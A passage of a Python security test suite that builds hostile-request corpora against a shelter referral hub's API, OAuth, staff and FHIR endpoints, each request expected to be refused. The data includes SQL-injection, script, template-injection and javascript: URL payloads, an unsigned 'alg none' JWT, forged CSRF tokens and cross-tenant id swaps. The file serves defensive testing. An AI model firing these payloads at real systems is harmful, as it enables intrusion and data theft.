def _valid_item(inner: fields.Field[Any]) -> Any:
    """A value one list item may hold (to make lists too long), or None if unknown."""
    for validator in _validators(inner):
        if isinstance(validator, validate.OneOf):
            return next(iter(validator.choices))
    if isinstance(inner, fields.UUID):
        return str(uuid.uuid4())
    if isinstance(inner, fields.String) and is_free_text(inner):
        return "x"
    return None


# --- targets --------------------------------------------------------------------------------


def consent_body(w: World) -> dict[str, Any]:
    return {
        "recipients": [w.third],
        "purposes": ["emergency_shelter"],
        "data_categories": ["contact"],
        "method": "written",
        "signer": "survivor",
        "signer_authority": "Case worker",
        "form_version": "1",
        "form_language": "en",
        "signed_at": (clock_now() - timedelta(hours=1)).isoformat(),
    }


def hsds_body(w: World) -> dict[str, Any]:
    return {
        "id": "hostile-1",
        "name": "HSDS Service",
        "status": "active",
        "organization": {"id": "o", "name": "Hostile Org", "description": "d"},
    }


@dataclass(frozen=True)
class Target:
    endpoint: str
    method: str
    kind: str  # "api" (problem+json), "oauth" (RFC 6749 errors), "form" (staff pages)
    path: str = ""  # {name} filled from World ids
    person: str = ""  # who acts (a PEOPLE label)
    body: Callable[[World], Any] | None = None
    foreign: dict[str, tuple[str, ...]] = field(default_factory=dict)  # path param -> others
    private: dict[str, tuple[str, ...]] = field(default_factory=dict)  # body id -> others

    def url(self, w: World, **override: str) -> str:
        return self.path.format(**{**w.ids(), **override})


API_TARGETS = [
    Target(
        "agencies.create_agency",
        "POST",
        "api",
        "/api/v1/agencies",
        "hub_admin",
        lambda w: {"name": "Harbor Light", "kind": "shelter", "city": "Riverbend"},
    ),
    Target(
        "access.update_agency",
        "PATCH",
        "api",
        "/api/v1/agencies/{own}",
        "admin",
        lambda w: {"city": "Riverbend", "name": "Harbor Renamed"},
        foreign={"own": ("other", "third")},
    ),
    Target(
        "access.put_sso",
        "PUT",
        "api",
        "/api/v1/agencies/{own}/sso",
        "admin",
        lambda w: {
            "issuer": "https://login.agency.example",
            "client_id": "hub",
            "client_secret": "a provider secret",
            "email_domains": ["sso-hostile.example"],
            "enabled": True,
        },
        foreign={"own": ("other",)},
    ),
    Target(
        "access.create_api_client",
        "POST",
        "api",
        "/api/v1/agencies/{own}/api-clients",
        "admin",
        lambda w: {"name": "Case system", "scopes": ["directory:read"]},
        foreign={"own": ("other",)},
    ),
    Target(
        "access.revoke_api_client",
        "POST",
        "api",
        "/api/v1/agencies/{own}/api-clients/{own_api_client}/revoke",
        "admin",
        None,
        foreign={"own": ("other",), "own_api_client": ("other_api_client",)},
    ),
    Target(
        "access.set_api_client_keys",
        "PUT",
        "api",
        "/api/v1/agencies/{own}/api-clients/{own_api_client}/keys",
        "admin",
        lambda w: {"jwks": CLIENT_JWKS},
        foreign={"own": ("other",), "own_api_client": ("other_api_client",)},
    ),
    Target(
        "agencies.create_user",
        "POST",
        "api",
        "/api/v1/agencies/{own}/users",
        "admin",
        lambda w: {
            "email": "new.person@agency.example",
            "display_name": "New",
            "roles": ["intake"],
        },
        foreign={"own": ("other",)},
    ),
    Target(
        "access.update_user",
        "PATCH",
        "api",
        "/api/v1/users/{own_user}",
        "admin",
        lambda w: {"display_name": "Renamed"},
        foreign={"own_user": ("other_user",)},
    ),
    Target(
        "webhooks.subscribe",
        "POST",
        "api",
        "/api/v1/webhooks",
        "admin",
        lambda w: {"url": "https://partner.example/hook", "events": ["referral.sent"]},
    ),
    Target(
        "webhooks.disable",
        "POST",
        "api",
        "/api/v1/webhooks/{own_webhook}/disable",
        "admin",
        None,
        foreign={"own_webhook": ("other_webhook",)},
    ),
    Target(
        "clients.create_client",
        "POST",
        "api",
        "/api/v1/clients",
        "intake",
        lambda w: {
            "profile": {"language": "es", "accessibility": ["wheelchair"]},
            "pii": {"name": "Ana", "narrative": "Arrived at night.", "dob": "1990-01-01"},
            "do_not_refer": [w.other],
        },
    ),
    Target(
        "consent.record_consent",
        "POST",
        "api",
        "/api/v1/clients/{own_client}/consents",
        "intake",
        consent_body,
        foreign={"own_client": ("other_client",)},
    ),
    Target(
        "consent.erase_client",
        "POST",
        "api",
        "/api/v1/clients/{own_client}/erase",
        "intake",
        lambda w: {"reason": "she asked"},
        foreign={"own_client": ("other_client",)},
    ),
    Target(
        "consent.revoke_consent",
        "POST",
        "api",
        "/api/v1/consents/{own_consent}/revoke",
        "intake",
        lambda w: {"reason": "she asked"},
        foreign={"own_consent": ("other_consent",)},
        # withdrawn from one agency only: one the consent names, never any other
        private={"agency_id": ("other", "own")},
    ),
    Target(
        "survivor_access.issue_code",
        "POST",
        "api",
        "/api/v1/clients/{her_client}/survivor-access",
        "intake",
        lambda w: {"pin": "1234", "safe_to_carry_only": False},
        foreign={"her_client": ("other_client",)},
    ),
    Target(
        "referrals.send_referral",
        "POST",
        "api",
        "/api/v1/referrals",
        "intake",
        lambda w: {
            "client_id": w.own_client,
            "service_id": w.fourth_service,
            "urgency": "routine",
            "data_categories": ["profile"],
            "note": "Needs a quiet room.",
        },
        private={
            "client_id": ("other_client", "own_service", "own_consent"),
            "consent_id": ("other_consent", "own_client"),
            "previous_referral_id": ("other_referral",),
        },
    ),
    Target(
        "outside_referrals.add_organisation",
        "POST",
        "api",
        "/api/v1/outside-organisations",
        "intake",
        lambda w: {"name": "Hillside Refuge", "phone": "+1 555 0142", "email": "a@b.example"},
    ),
    Target(
        "outside_referrals.refer_outside",
        "POST",
        "api",
        "/api/v1/outside-referrals",
        "intake",
        lambda w: {
            "client_id": w.own_client,
            "organisation_id": w.own_organisation,
            "consent_id": w.own_outside_consent,
            "purpose": "emergency_shelter",
            "urgency": "routine",
            "data_categories": ["contact"],
        },
        private={
            "client_id": ("other_client", "own_organisation"),
            "organisation_id": ("other_organisation", "own_client"),
            "consent_id": ("own_consent", "other_consent"),
        },
    ),
    Target(
        "outside_referrals.withdraw_outside",
        "POST",
        "api",
        "/api/v1/outside-referrals/{own_outside}/withdraw",
        "intake",
        None,
        foreign={"own_outside": ("other_outside",)},
    ),
    Target(
        "outside_referrals.issue_link",
        "POST",
        "api",
        "/api/v1/outside-referrals/{own_outside}/links",
        "intake",
        None,
        foreign={"own_outside": ("other_outside",)},
    ),
    Target(
        "outside_referrals.revoke_link",
        "POST",
        "api",
        "/api/v1/outside-referrals/{own_outside}/links/{own_link}/revoke",
        "intake",
        None,
        foreign={"own_outside": ("other_outside",), "own_link": ("other_link",)},
    ),
    Target(
        "referrals.create_bundle",
        "POST",
        "api",
        "/api/v1/bundles",
        "intake",
        lambda w: {
            "client_id": w.own_client,
            "urgency": "routine",
            "needs": [
                {
                    "category": "case_management",
                    "service_ids": [w.fourth_service],
                    "note": "Case work.",
                }
            ],
        },
        private={"client_id": ("other_client", "own_service"), "consent_id": ("other_consent",)},
    ),
    Target(
        "referrals.act",
        "POST",
        "api",
        "/api/v1/referrals/{own_referral}/request-info",
        "receiver",
        lambda w: {"question": "Which language does she speak?"},
        foreign={"own_referral": ("other_referral",)},
    ),
    Target(
        "reports.nudge",
        "POST",
        "api",
        "/api/v1/reports/in-limbo/{own_referral}/nudge",
        "coordinator",
        lambda w: {"to": "receiver"},
    ),
    Target(
        "referrals.post_message",
        "POST",
        "api",
        "/api/v1/referrals/{own_referral}/messages",
        "receiver",
        lambda w: {"body": "We have a bed tonight."},
        foreign={"own_referral": ("other_referral",)},
    ),
    # a caseworker is a colleague: another agency's user is refused as an unknown id is
    Target(
        "referrals.assign",
        "POST",
        "api",
        "/api/v1/referrals/{own_referral}/assign",
        "intake",
        lambda w: {
            "side": "sender",
            "assignee_id": w.people["second_factor"].user_id,
            "note": "She calls back after six.",
        },
        foreign={"own_referral": ("other_referral",)},
        private={"assignee_id": ("other_user", "own_user")},
    ),
    Target(
        "referrals.assign_bundle",
        "POST",
        "api",
        "/api/v1/bundles/{own_bundle}/assign",
        "intake",
        lambda w: {"assignee_id": w.people["second_factor"].user_id, "note": "Over to you."},
        foreign={"own_bundle": ("other_referral",)},
        private={"assignee_id": ("other_user", "own_user")},
    ),
    Target(
        "directory.create_service",
        "POST",
        "api",
        "/api/v1/services",
        "provider",
        lambda w: {
            "name": "Night shelter",
            "category": "emergency_shelter",
            "location": {
                "name": "North site",
                "city": "Riverbend",
                "latitude": 1.5,
                "longitude": 2.5,
            },
            "eligibility": {"min_age": 18, "notes": "Adults."},
        },
        private={"agency_id": ("other", "third")},
    ),
    Target(
        "directory.update_service",
        "PATCH",
        "api",
        "/api/v1/services/{own_service}",
        "provider",
        lambda w: {"hours": "Mon-Fri 9-17", "description": "Beds for women."},
        foreign={"own_service": ("other_service", "third_service")},
    ),
    Target(
        "directory.put_capacity",
        "PUT",
        "api",
        "/api/v1/services/{own_service}/capacity",
        "provider",
        lambda w: {"total": 5, "available": 3, "note": "Two beds cleaned."},
        foreign={"own_service": ("other_service", "third_service")},
    ),
    Target(
        "directory.confirm_capacity",
        "POST",
        "api",
        "/api/v1/services/{own_service}/capacity/confirm",
        "provider",
        None,
        foreign={"own_service": ("other_service", "third_service")},
    ),
    Target(
        "directory.open_overflow",
        "POST",
        "api",
        "/api/v1/services/{own_service}/overflow",
        "provider",
        lambda w: {
            "starts_at": clock_now().isoformat(),
            "ends_at": (clock_now() + timedelta(hours=8)).isoformat(),
            "places": 3,
            "note": "Cots in the hall.",
        },
        foreign={"own_service": ("other_service", "third_service")},
    ),
    Target(
        "directory.close_overflow",
        "POST",
        "api",
        "/api/v1/overflow/{own_overflow}/close",
        "provider",
        None,
        foreign={"own_overflow": ("other_overflow",)},
    ),
    Target(
        "referrals.extend_hold",
        "POST",
        "api",
        "/api/v1/referrals/{own_accepted}/extend-hold",
        "receiver",
        lambda w: {"reason": "transport_delayed", "minutes": 60},
        foreign={"own_accepted": ("other_referral", "other_accepted")},
    ),
    Target(
        "directory.hsds_import",
        "POST",
        "api",
        "/api/v1/hsds/import",
        "hub_admin",
        hsds_body,
    ),
]
OAUTH_TARGETS = [
    Target("oauth.token", "POST", "oauth", "/oauth/token"),
    Target("oauth.revoke", "POST", "oauth", "/oauth/revoke"),
    Target("oauth.introspect", "POST", "oauth", "/oauth/introspect"),
]
FORM_TARGETS = [
    Target("signin.login", "POST", "form", "/login"),
    Target("signin.code", "POST", "form", "/login/code", "hub_admin"),
    Target("signin.enrol", "POST", "form", "/login/enrol", "enrolling"),
    Target("signin.second_factor", "POST", "form", "/account/second-factor", "second_factor"),
    Target("signin.logout", "POST", "form", "/logout", "intake"),
    Target("signin.recovery_code", "POST", "form", "/login/recovery", "hub_admin"),
    Target("signin.recovery_codes", "POST", "form", "/account/recovery-codes", "hub_admin"),
    Target("signin.forgot", "POST", "form", "/login/forgot"),
    Target("signin.sso_start", "POST", "form", "/login/sso"),
    Target("signin.reset", "POST", "form", "/login/reset"),
    # her door: signing in (with a code never issued), out, and the quick exit
    Target("me.sign_in", "POST", "form", "/me/sign-in"),
    Target("me.sign_out", "POST", "form", "/me/sign-out", SURVIVOR),
    Target("me.quick_exit", "POST", "form", "/me/exit", SURVIVOR),
]


def fhir_task(w: World) -> dict[str, Any]:
    """A clinic's referral Task for agency C's case management, everything contained."""
    return {
        "resourceType": "Task",
        "status": "requested",
        "intent": "order",
        "priority": "routine",
        "code": {
            "coding": [{"system": "http://hl7.org/fhir/CodeSystem/task-code", "code": "fulfill"}]
        },
        "focus": {"reference": "#sr"},
        "for": {"reference": "#pat"},
        "owner": {"reference": f"Organization/{w.third}"},
        "contained": [
            {
                "resourceType": "Patient",
                "id": "pat",
                "name": [{"text": "Ana Quiroga"}],
                "gender": "female",
                "telecom": [{"system": "phone", "value": "555-0100"}],
            },
            {
                "resourceType": "Consent",
                "id": "consent",
                "status": "active",
                "scope": {"text": "patient-privacy"},
                "category": [{"text": "IDSCL"}],
                "policyRule": {"text": "release of information"},
                "sourceAttachment": {"language": "en", "title": "Form 3"},
                "provision": {
                    "actor": [
                        {
                            "role": {"text": "IRCP"},
                            "reference": {"reference": f"Organization/{w.third}"},
                        }
                    ],
                    "purpose": [
                        {"system": FHIR_HUB + "/service-category", "code": "case_management"}
                    ],
                    "class": [{"system": FHIR_HUB + "/data-category", "code": "contact"}],
                },
            },
            {
                "resourceType": "ServiceRequest",
                "id": "sr",
                "status": "active",
                "intent": "order",
                "subject": {"reference": "#pat"},
                "performer": [{"reference": f"HealthcareService/{w.fourth_service}"}],
                "supportingInfo": [{"reference": "#consent"}],
                "note": [{"text": "She needs a quiet room."}],
            },
        ],
    }


FHIR_HUB = "https://referral-hub.example/fhir/CodeSystem"
# the FHIR interface (OperationOutcome errors): a clinic's new referral, and the receiver
# moving it by Task status (sent -> received: acknowledge)
FHIR_TARGETS = [
    Target("fhir.create_task", "POST", "fhir", "/fhir/Task", "intake", fhir_task),
    Target(
        "fhir.patch_task",
        "PATCH",
        "fhir",
        "/fhir/Task/{own_referral}",
        "receiver",
        # a partial Task (JSON Patch operations: test_fhir.py)
        lambda w: {"status": "received", "statusReason": {"text": "Seen by the night shift"}},
        foreign={"own_referral": ("other_referral",)},
    ),
    Target(
        "fhir.replace_task",
        "PUT",
        "fhir",
        "/fhir/Task/{own_referral}",
        "receiver",
        lambda w: {"resourceType": "Task", "status": "received", "intent": "order"},
        foreign={"own_referral": ("other_referral",)},
    ),
]
TARGETS: dict[str, Target] = {}  # filled below, once the page targets are defined


def schema_of(app: Flask, target: Target) -> Schema | None:
    """The marshmallow schema the view loads its JSON body with (None: it takes no body)."""
    view = app.view_functions[target.endpoint]
    for parameter in getattr(view, "_apidoc", {}).get("arguments", {}).get("parameters", []):
        if parameter.get("location", parameter.get("in", "json")) == "json":
            schema = parameter["schema"]
            return schema() if isinstance(schema, type) else schema
    return None


# --- corpus builders ----------------------------------------------------------------------------


def api_corpus(target: Target, w: World, schema: Schema | None) -> list[Case]:
    url = target.url(w)
    base = target.body(w) if target.body else None
    body = dumps(base) if base is not None else None
    method = target.method

    def case(label: str, category: str, payload: bytes | None, **kw: Any) -> Case:
        return Case(label, category, method, kw.pop("path", url), payload, **kw)

    cases = [case("the valid request", "baseline", body, outcome=ACCEPT)]
    document = body or b'{"a": "b"}'
    template = base if base is not None else {"a": "b"}
    first = next(iter(template))
    # intake
    cases.append(
        case(
            "1 MiB string",
            "oversize",
            dumps(with_value(template, (first,), "x" * ONE_MIB)),
            statuses=frozenset({413}),
        )
    )
    cases.append(
        case("1 MiB of spaces", "oversize", b" " * (ONE_MIB + 1), statuses=frozenset({413}))
    )
    cases.append(
        case("1 MiB of brackets", "oversize", b"[" * (ONE_MIB + 1), statuses=frozenset({413}))
    )
    for label, content_type in CONTENT_TYPES.items():
        cases.append(
            case(
                label,
                "content type",
                document,
                content_type=content_type,
                statuses=frozenset({415}),
            )
        )
    for label, raw in bad_encodings(document).items():
        cases.append(case(label, "encoding", raw, statuses=frozenset({400})))
    for label, raw in BROKEN_JSON.items():
        cases.append(case(label, "broken json", raw, statuses=frozenset({400})))
    # an HSDS document may be a list; what it holds is then checked (422)
    hsds = target.endpoint == "directory.hsds_import"
    not_an_object = frozenset({400, 422} if hsds else {400})
    for label, raw in NOT_AN_OBJECT.items():
        cases.append(case(label, "not an object", raw, statuses=not_an_object))
    for label, number in NUMBERS_REFUSED.items():
        cases.append(
            case(
                label,
                "NaN and overflow",
                raw_at(template, (first,), number),
                statuses=frozenset({400}),
            )
        )
    for key in list(template)[:4]:
        for label, value in (("same value", template[key]), ("other value", "other")):
            text = dumps(template).decode()
            doubled = "{" + json.dumps(key) + ": " + json.dumps(value) + ", " + text[1:]
            cases.append(
                case(
                    f"{key} twice, {label}",
                    "duplicate keys",
                    doubled.encode(),
                    statuses=frozenset({400}),
                    names=key,
                )
            )
    cases.append(
        case(
            "nested duplicate",
            "duplicate keys",
            b'{"x": {"k": 1, "k": 2}}',
            statuses=frozenset({400}),
        )
    )
    for depth in (33, 64, 1000, 100_000):
        cases.append(
            case(
                f"{depth} arrays deep",
                "deep nesting",
                b"[" * depth + b"]" * depth,
                statuses=frozenset({400}),
            )
        )
        nested = '{"a": ' * depth + "1" + "}" * depth
        cases.append(
            case(
                f"{depth} objects deep in a field",
                "deep nesting",
                raw_at(template, (first,), nested),
                statuses=frozenset({400}),
            )
        )
    # per field, from the schema
    if schema is not None:
        # every hostile string goes into the first top-level free-text field (the rest get a
        # sample: the same code path; test_accepted_injection_strings_... reads them all back)
        first_text = next(
            (p for p, f in walk(schema, base) if len(p) == 1 and is_free_text(f)), None
        )
        for path, field_ in walk(schema, base):
            mutations = field_mutations(field_, every_string=path == first_text)
            for label, value, outcome, statuses in mutations:
                category = "wrong type" if label.startswith("wrong type") else "field value"
                if label.startswith("string: "):
                    category = "control and bidi" if label[8:] in CONTROL else "injection"
                    if label[8:] in INTAKE_REFUSED_STRINGS:
                        category = "control and bidi"
                cases.append(
                    case(
                        f"{dotted(path)}: {label}",
                        category,
                        dumps(with_value(base, path, value)),
                        outcome=outcome,
                        statuses=statuses or None,
                        names=dotted(path) if outcome == REJECT else None,
                        sent=value,
                        sent_at=path,
                    )
                )
    if hsds:
        # HSDS is an open format (extra properties allowed; `id` and `status` are its own):
        # its structural attacks are in hsds_cases
        cases += hsds_cases(url, w)
        cases += credential_cases(target, w, url, body)
        return cases + malformed_key_cases(target, url, body)
    # server-owned fields
    known = set(schema.fields) if schema is not None else set()
    substitutions = {
        "{other}": w.other,
        "{other_user}": w.other_user,
        "{other_object}": w.other_service,
    }
    for name, value in SERVER_OWNED.items():
        if name in known:
            continue
        if isinstance(value, str) and value in substitutions:
            value = substitutions[value]
        cases.append(
            case(
                f"{name} = {value!r}",
                "server-owned field",
                dumps(with_value(base, (name,), value)),
                statuses=frozenset({422}),
                names=name,
            )
        )
    for label, value in itertools.chain(INJECTION.items(), CONTROL.items()):
        cases.append(
            case(
                f"a field named {label}",
                "server-owned field",
                dumps(with_value(base, (value,), "x")),
                statuses=frozenset({422}),
            )
        )
    if schema is not None:
        for path, field_ in walk(schema, base):
            if isinstance(field_, fields.Nested) and not field_.many:
                cases.append(
                    case(
                        f"{dotted(path)}.id inside a nested object",
                        "server-owned field",
                        dumps(with_value(base, (*path, "id"), w.other_service)),
                        statuses=frozenset({422}),
                        names=dotted((*path, "id")),
                    )
                )
    # other tenants' (and missing) ids: path parameters, then body ids
    for param, others in target.foreign.items():
        for other in others:
            cases.append(
                case(
                    f"{param} -> {other}",
                    "other tenant",
                    body,
                    path=target.url(w, **{param: getattr(w, other)}),
                    statuses=frozenset({403, 404}),
                )
            )
        cases.append(
            case(
                f"{param} -> missing",
                "other tenant",
                body,
                path=target.url(w, **{param: str(uuid.uuid4())}),
                statuses=frozenset({404}),
            )
        )
        for label, segment in GARBAGE_SEGMENTS.items():
            own_id = getattr(w, param)
            segment = segment.replace("{uuid}", own_id).replace("{uuid_short}", own_id[:-1])
            cases.append(
                case(
                    f"{param} -> {label}",
                    "other tenant",
                    body,
                    path=target.url(w, **{param: urllib.parse.quote(segment, safe="")}),
                    statuses=frozenset({404}),
                )
            )
    for name, others in target.private.items():
        for other in (*others, "missing"):
            value = str(uuid.uuid4()) if other == "missing" else getattr(w, other)
            cases.append(
                case(
                    f"{name} -> {other}",
                    "other tenant",
                    dumps(with_value(base, (name,), value)),
                    statuses=frozenset({403, 404, 409, 422}),
                )
            )
    if target.endpoint == "referrals.act":
        cases += act_cases(target, w)
    cases += credential_cases(target, w, url, body)
    cases += malformed_key_cases(target, url, body)
    return cases


def act_cases(target: Target, w: World) -> list[Case]:
    """The action segment is free text in the route: hostile names and hostile bodies."""
    from referral_hub.referrals.states import PUBLIC_ACTIONS

    cases = []
    base = f"/api/v1/referrals/{w.own_referral}/"
    hostile_actions = {
        "system-only expire": "expire",
        "system-only supersede": "supersede",
        "system-only no-show": "no-show",
        "capitals": "ACCEPT",
        "trailing space": "accept%20",
        "unknown": "promote",
        "sql": urllib.parse.quote("accept' OR 1=1 --", safe=""),
        "html": urllib.parse.quote("<script>", safe=""),
        "template": urllib.parse.quote("{{7*7}}", safe=""),
        "NUL": "accept%00",
    }
    for label, action in hostile_actions.items():
        cases.append(
            Case(
                f"action {label}",
                "other tenant",
                "POST",
                base + action,
                b"{}",
                statuses=frozenset({404}),
            )
        )
    for action in PUBLIC_ACTIONS:
        for label, document in {
            "reason of the wrong type": {"reason": 42},
            "position out of range": {"position": 0},
            "unknown field": {"status": "accepted"},
        }.items():
            cases.append(
                Case(
                    f"{action} with {label}",
                    "field value",
                    "POST",
                    base + action,
                    dumps(document),
                    statuses=frozenset({400, 422}),
                    names=next(iter(cast(dict[str, Any], document))),
                )
            )
    return cases


# elements of each FHIR target's body that the hub reads and checks: a hostile value there
# is refused; in the others (texts and codings the hub does not keep) it may be taken
FHIR_CHECKED = {
    "fhir.create_task": {
        "resourceType",
        "status",
        "intent",
        "priority",
        "code.coding.0.code",
        "focus.reference",
        "for.reference",
        "owner.reference",
        "contained.0.gender",
        "contained.1.status",
        "contained.1.provision.actor.0.reference.reference",
        "contained.1.provision.purpose.0.code",
        "contained.1.provision.class.0.code",
        "contained.1.sourceAttachment.language",
        "contained.2.performer.0.reference",
        "contained.2.supportingInfo.0.reference",
    },
    "fhir.patch_task": {"status"},
    "fhir.replace_task": {"resourceType", "status"},
}
WRONG_TYPES: dict[str, Any] = {
    "a number": 12345,
    "true": True,
    "an object": {"x": 1},
    "an array": ["x"],
}


def leaves(document: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any]]:
    if isinstance(document, dict):
        for key, value in document.items():
            yield from leaves(value, (*path, key))
    elif isinstance(document, list):
        for index, value in enumerate(document):
            yield from leaves(value, (*path, index))
    else:
        yield path, document


def fhir_corpus(target: Target, w: World) -> list[Case]:
    """The JSON API's intake, credential and path cases (its schema-derived ones do not
    apply: FHIR resources are read through the R4B models), then every element of the body:
    wrong JSON types and every hostile string, refused where the hub reads the element."""
    from dataclasses import replace

    url = target.url(w)
    base = target.body(w) if target.body else {}
    checked = FHIR_CHECKED[target.endpoint]
    cases = []
    for case in api_corpus(target, w, None):
        if case.category == "server-owned field":
            continue  # FHIR resources carry ids and meta; the models say what is allowed
        if case.category == "not an object" and target.method == "PATCH":
            case = replace(case, statuses=frozenset({400, 422}))  # an array is JSON Patch
        # a malformed id matches no Task route: the read-only catch-all of /fhir answers PUT
        # and PATCH with 405 (a well-formed missing id: 404)
        garbage = case.category == "other tenant" and "-> missing" not in case.label
        if garbage and case.statuses == frozenset({404}):
            case = replace(case, statuses=frozenset({404, 405}))
        cases.append(case)
    for path, _ in leaves(base):
        where = dotted(path)
        outcome = REJECT if where in checked else EITHER
        hostile = {
            **{f"wrong type: {label}": value for label, value in WRONG_TYPES.items()},
            **{
                f"string: {label}": text
                for label, text in itertools.chain(INJECTION.items(), CONTROL.items())
            },
        }
        for label, value in hostile.items():
            cases.append(
                Case(
                    f"{where}: {label}",
                    "wrong type" if label.startswith("wrong") else "field value",
                    target.method,
                    url,
                    dumps(with_value(base, path, value)),
                    content_type="application/fhir+json",
                    outcome=outcome,
                    statuses=frozenset({400, 422}) if outcome == REJECT else None,
                )
            )
    return cases


def hsds_cases(url: str, w: World) -> list[Case]:
    """An HSDS document is free-form JSON checked by JSON Schema: structural attacks."""
    service = hsds_body(w)
    documents: dict[str, Any] = {
        "organization is a string": {**service, "organization": "Hostile Org"},
        "organization is a list": {**service, "organization": ["x"]},
        "organization name is an object": {
            **service,
            "organization": {"id": "o", "name": {"a": 1}},
        },
        "status outside HSDS": {**service, "status": "sleeping"},
        "status in the hub's spelling": {**service, "status": "temporarily_closed"},
        "name is a number": {**service, "name": 42},
        "id missing": {k: v for k, v in service.items() if k != "id"},
        "minimum_age is a string": {**service, "minimum_age": "18"},
        "minimum_age NaN-like string": {**service, "minimum_age": "NaN"},
        "languages are strings": {**service, "languages": ["en"]},
        "attributes are strings": {**service, "attributes": ["category:shelter"]},
        "attribute term is a string": {
            **service,
            "attributes": [{"id": "a", "taxonomy_term": "x"}],
        },
        "phones are strings": {**service, "phones": ["555"]},
        "schedules are numbers": {**service, "schedules": [1]},
        "service_areas is an object": {**service, "service_areas": {"name": "x"}},
        "service_at_locations are strings": {**service, "service_at_locations": ["here"]},
        "location is a string": {
            **service,
            "service_at_locations": [{"id": "l", "location": "here"}],
        },
        "service_at_location with a string service": {"service": "x", "location": {"id": "l"}},
        "service_at_location with a string location": {"service": service, "location": "here"},
        "service_at_location with a list location": {"service": service, "location": ["here"]},
        "service_at_location with a null service": {"service": None, "location": {}},
        "organization with string services": {"name": "Org", "services": "abc"},
        "organization with numeric services": {"name": "Org", "services": [1, 2]},
        "organization with null name": {"name": None, "services": [], "website": "x"},
        "contents not a list": {"contents": "x"},
        "contents of strings": {"contents": ["x", "y"]},
        "contents of nulls": {"contents": [None]},
        "list of strings": ["x"],
        "list of lists": [[service]],
        "empty object": {},
        "metadata of the wrong type": {**service, "metadata": "x"},
        "url is javascript": {**service, "url": "javascript:alert(1)"},
        "url is data": {**service, "url": "data:text/html,<script>alert(1)</script>"},
        "email is markup": {**service, "email": "<script>"},
        "location addresses is a string": {"service": service, "location": {"addresses": "x"}},
        "location address is a string": {"service": service, "location": {"addresses": ["x"]}},
        "location latitude is a string": {"service": service, "location": {"latitude": "1"}},
        "nested location is a list": {
            **service,
            "service_at_locations": [{"id": "l", "location": ["x"]}],
        },
        # HSDS 3.1: capacities and their units
        "capacities is an object": {**service, "capacities": {"available": 1}},
        "capacities are numbers": {**service, "capacities": [3]},
        "capacity without a unit": {
            **service,
            "capacities": [{"id": "c", "available": 1, "updated": "2026-01-01T00:00:00Z"}],
        },
        "capacity available is a string": {
            **service,
            "capacities": [
                {
                    "id": "c",
                    "unit": {"id": "u", "name": "Bed"},
                    "available": "many",
                    "updated": "2026-01-01T00:00:00Z",
                }
            ],
        },
        "capacity unit is a string": {
            **service,
            "capacities": [
                {"id": "c", "unit": "bed", "available": 1, "updated": "2026-01-01T00:00:00Z"}
            ],
        },
        "capacity unit without a name": {
            **service,
            "capacities": [
                {"id": "c", "unit": {"id": "u"}, "available": 1, "updated": "2026-01-01T00:00:00Z"}
            ],
        },
        "additional_urls is a string": {**service, "additional_urls": "https://x.example"},
    }
    cases = [
        Case(label, "hsds structure", "POST", url, dumps(document), statuses=frozenset({400, 422}))
        for label, document in documents.items()
    ]
    # the query flags: a version the hub does not speak, a dry run that is not a boolean
    for query in ("version=2.0", "version=3.1.0", "version=", "dry_run=perhaps", "dry_run=2"):
        cases.append(
            Case(
                query,
                "field value",
                "POST",
                f"{url}?{query}",
                dumps(service),
                statuses=frozenset({422}),
                names=query.split("=")[0],
            )
        )
    # a dry run of a valid document answers 200 and must change nothing
    for query in ("dry_run=true", "dry_run=true&version=3.1"):
        cases.append(Case(query, "dry run", "POST", f"{url}?{query}", dumps(service), outcome=NOOP))
    orphan = {k: v for k, v in service.items() if k != "organization"}  # needs agency_id
    for label, value in {
        "not a uuid": "x",
        "sql": "' OR 1=1 --",
        "html": "<script>",
        "missing agency": str(uuid.uuid4()),
        "a service's id": w.own_service,
        "a client's id": w.other_client,
    }.items():
        cases.append(
            Case(
                f"agency_id {label}",
                "field value",
                "POST",
                f"{url}?agency_id={urllib.parse.quote(value)}",
                dumps(orphan),
                statuses=frozenset({400, 404, 422}),
            )
        )
    return cases


def credential_cases(target: Target, w: World, url: str, body: bytes | None) -> list[Case]:
    """Bad, expired, revoked tokens; missing and forged CSRF tokens on the staff session."""
    cases = []
    refused = frozenset({400, 401, 403})
    headers = {
        "no credentials": (),
        "empty bearer": (("Authorization", "Bearer "),),
        "bare scheme": (("Authorization", "Bearer"),),
        "garbage token": (("Authorization", "Bearer garbage"),),
        "600-character token": (("Authorization", "Bearer " + "a" * 600),),
        "basic scheme": (("Authorization", "Basic " + base64.b64encode(b"user:pass").decode()),),
        "token scheme": (("Authorization", "Token abc"),),
        "alg none JWT": (("Authorization", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0."),),
        "latin-1 token": (("Authorization", "Bearer \u00e9\u00e9"),),
        "token with trailing junk": (("Authorization", f"Bearer {w.tokens['narrow scope']}x"),),
        **{
            f"{label} token": (("Authorization", f"Bearer {token}"),)
            for label, token in w.tokens.items()
            if label != "other tenant" or target.foreign
        },
    }
    for label, pairs in headers.items():
        # another agency's good token meets our objects: refused as if they did not exist
        statuses = refused | {404} if label == "other tenant token" else refused
        cases.append(
            Case(
                label,
                "bad token",
                target.method,
                url,
                body,
                headers=pairs,
                acting=False,
                statuses=statuses,
            )
        )
    cases.append(
        Case(
            "bearer token and session cookie",
            "bad token",
            target.method,
            url,
            body,
            headers=(
                ("Authorization", f"Bearer {w.tokens['narrow scope']}"),
                ("X-CSRFToken", "{csrf}"),
            ),
            acting=False,
            via="session",
            statuses=frozenset({400}),
        )
    )
    csrf = {
        "missing": (),
        "empty": (("X-CSRFToken", ""),),
        "garbage": (("X-CSRFToken", "garbage"),),
        "another session's": (("X-CSRFToken", "{foreign_csrf}"),),
        "last character changed": (("X-CSRFToken", "{csrf_flipped}"),),
        "truncated": (("X-CSRFToken", "{csrf_truncated}"),),
        "with a suffix": (("X-CSRFToken", "{csrf}x"),),
        "under another header name": (("X-CSRF-Token", "{csrf}"),),
        "in the query string": (),
    }
    for label, pairs in csrf.items():
        path = (
            url + ("&" if "?" in url else "?") + "csrf_token={csrf}"
            if label == "in the query string"
            else url
        )
        cases.append(
            Case(
                f"CSRF token {label}",
                "CSRF",
                target.method,
                path,
                body,
                headers=pairs,
                acting=False,
                via="session",
                statuses=frozenset({403}),
                names="csrf_token",
            )
        )
    cases.append(
        Case(
            "CSRF token in the JSON body",
            "CSRF",
            target.method,
            url,
            dumps(with_value(json.loads(body) if body else {}, ("csrf_token",), "{csrf}")),
            acting=False,
            via="session",
            # a view that takes no body refuses one (422) before the session is looked at
            statuses=frozenset({403} if body else {422}),
